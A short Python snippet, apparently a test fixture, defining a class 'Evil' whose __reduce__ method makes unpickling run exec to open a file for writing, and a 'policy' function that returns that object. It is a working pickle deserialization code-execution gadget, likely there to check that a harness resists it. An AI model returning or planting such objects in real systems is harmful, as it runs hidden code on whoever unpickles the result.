# The result would act while it is unpickled.
class Evil:
    def __reduce__(self):
        return exec, (f"open({NEW!r}, 'w')",)


def policy(obs, t):
    return Evil()
